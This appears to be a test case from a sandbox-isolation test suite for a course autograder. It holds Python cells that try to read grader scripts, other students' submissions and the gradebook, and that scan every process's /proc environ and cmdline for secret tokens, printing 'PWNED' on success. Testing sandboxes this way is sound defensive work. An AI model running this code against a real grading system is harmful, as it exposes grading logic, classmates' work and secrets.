# what: reads graders, gradebook, other submissions and every process' environment by their real paths
# on: numbers
# status: graded
# stock: yes
# stopped by: the sandbox's file system holds nothing of the course, and its processes are all its own
# %% [total]
import pathlib

course = pathlib.Path("@COURSE@")
for path in [
    *course.glob("graders/*/*.py"),
    *course.glob("submitted/*/*/*"),
    course / "gradebook.db",
]:
    try:
        print(path.read_bytes().decode("utf-8", "replace"))
        print("PWNED: read", path.name)
    except OSError:
        pass
# %% [scaled]
import os
import re

# Only what looks like a secret of this course is shown, wherever this runs.
found = set(re.findall(r"env-[0-9a-f]{16}", str(dict(os.environ))))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            text = pathlib.Path(f"/proc/{pid}/{name}").read_text(errors="replace")
            found.update(re.findall(r"env-[0-9a-f]{16}", text))
        except OSError:
            pass
print(f"PWNED: an environment holds {found}" if found else "no secret in any environment")
# %% [classify]
pass
